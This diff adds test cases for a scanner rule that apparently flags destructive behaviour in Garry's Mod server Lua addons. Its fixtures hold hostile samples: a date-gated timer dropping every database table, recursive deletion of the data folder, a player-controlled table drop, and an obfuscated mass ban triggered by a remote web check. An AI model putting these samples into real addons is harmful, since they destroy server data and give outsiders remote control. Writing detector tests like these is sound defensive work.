@@ -61,4 +61,80 @@ describe('destructive_action', () => {
       expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
     }
   });
+  it('every table the database lists, dropped on a timer', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'timer.Create("compact", 3600, 0, function()',
+        ' if os.time() < 1767225600 then return end',
+        ' for _, r in ipairs(sql.Query("SELECT name FROM sqlite_master WHERE type=\'table\'") or {}) do',
+        '  sql.Query("DROP TABLE " .. r.name)',
+        ' end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it('the whole of data/ deleted, folder by folder', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local function deep(dir)',
+        ' local files, dirs = file.Find((dir == "" and "" or dir .. "/") .. "*", "DATA")',
+        ' for _, d in ipairs(dirs) do deep((dir == "" and "" or dir .. "/") .. d) end',
+        ' for _, f in ipairs(files) do file.Delete((dir == "" and "" or dir .. "/") .. f) end',
+        'end',
+        'timer.Create("clean", 3600, 0, function() deep("") end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it('old files of its own cache folder deleted', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'timer.Create("clean", 3600, 0, function()',
+        ' for _, f in ipairs(file.Find("mycache/*", "DATA")) do',
+        '  if os.time() - file.Time("mycache/" .. f, "DATA") > 604800 then file.Delete("mycache/" .. f) end',
+        ' end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
+  it('a table any player names over the net, emptied or dropped', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'util.AddNetworkString("inv_reset")',
+        'local ops = { "DELETE FROM ", "DROP TABLE " }',
+        'net.Receive("inv_reset", function(len, ply)',
+        ' local tbl = net.ReadString()',
+        ' local op = ops[net.ReadUInt(2)] or ops[1]',
+        ' if tbl == "" then tbl = "inventory" end',
+        ' sql.Query(op .. tbl)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it('a player clearing their own inventory rows over the net', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'util.AddNetworkString("inv_clear")',
+        'net.Receive("inv_clear", function(len, ply)',
+        ' sql.Query("DELETE FROM inventory WHERE sid = " .. sql.SQLStr(ply:SteamID64()))',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
+  it('every player banned through methods picked by name and called with pcall, on the web\u2019s word', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local act = { string.char(66, 97, 110) }',
+        'local function sweep() for _, p in ipairs(player.GetAll()) do pcall(p[act[1]], p, 0, true) end end',
+        'timer.Create("goal", 180, 0, function()',
+        ' http.Fetch("https://goal.invalid/p.php", function(body) if body == "z" then sweep() end end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
 });
